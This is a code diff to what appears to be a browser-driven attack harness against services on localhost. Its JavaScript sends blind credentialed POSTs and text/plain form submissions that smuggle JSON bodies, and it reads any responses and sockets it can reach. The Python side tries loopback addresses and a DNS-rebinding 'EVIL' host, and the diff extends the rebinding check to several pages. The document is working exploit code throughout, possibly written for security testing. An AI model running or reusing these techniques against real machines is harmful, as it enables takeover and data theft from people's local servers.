@@ -30,10 +30,15 @@ READS = (
     "/limbeck/proof?x",
     "/ui-settings",
 )
+PAGES = ("/api/health", "/", "/metrics")
+"""Where servers may show a page, from which a rebound name is tried; PostgreSQL and Redis speak no HTTP."""
 SOCKETS = ("/api/events/in", "/api/events/out", "/api/logs/out", "/api/task_runs/subscriptions/scheduled")
 # Each way returns what it could read or open; a way that writes blindly is judged by what is there afterwards.
 TRY = """
 const [base, writes, reads, sockets] = given, won = [];
+// A bucket's listing is a page of XML: it has no body, and its own elements are no forms.
+const root = document.body || document.documentElement;
+const made = name => document.createElementNS("http://www.w3.org/1999/xhtml", name);
 const fetch = (url, how) => window.fetch(url, {...how, signal: AbortSignal.timeout(3000)});
 const read = async (what, promise) => {
   try { const a = await promise; if (a.type !== "opaque" && a.ok) won.push(what + ": " + (await a.text()).slice(0, 60)); }
@@ -49,10 +54,10 @@ for (const path in writes) {
   await read("blind " + path, fetch(base + path, {method: "POST", body, mode: "no-cors", credentials: "include"}));
   const untyped = {method: "POST", body: new Blob([body]), mode: "no-cors", credentials: "include"};
   await read("untyped " + path, fetch(base + path, untyped));
-  const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), {name: "f" + Math.random()}));
+  const frame = root.appendChild(Object.assign(made("iframe"), {name: "f" + Math.random()}));
   const how = {action: base + path, method: "POST", enctype: "text/plain", target: frame.name};
-  const form = document.body.appendChild(Object.assign(document.createElement("form"), how));
-  form.appendChild(Object.assign(document.createElement("input"), {name: body.slice(0, -1) + ', "x": "', value: '"}'}));
+  const form = root.appendChild(Object.assign(made("form"), how));
+  form.appendChild(Object.assign(made("input"), {name: body.slice(0, -1) + ', "x": "', value: '"}'}));
   form.submit();
   await new Promise(done => { frame.onload = done; setTimeout(done, 150); });
 }
@@ -99,8 +104,7 @@ def attack(window: Browser, site: str, ports: Mapping[str, int]) -> list[str]:
         for base in (f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://{EVIL}:{port}"):
             won += [f"{name}: {one}" for one in window.run(TRY, base, WRITES, READS, SOCKETS)]
         # Rebound: the page's own name leads to the server, and to the browser they are one origin.
-        if not window.opens(f"http://{EVIL}:{port}/api/health"):
-            continue  # a server that speaks no HTTP shows no page
-        rebound = window.run(TRY, f"http://{EVIL}:{port}", WRITES, READS, SOCKETS)
-        won += [f"{name}, rebound: {one}" for one in rebound]
+        if any(window.opens(f"http://{EVIL}:{port}{path}") for path in PAGES):
+            rebound = window.run(TRY, f"http://{EVIL}:{port}", WRITES, READS, SOCKETS)
+            won += [f"{name}, rebound: {one}" for one in rebound]
     return won
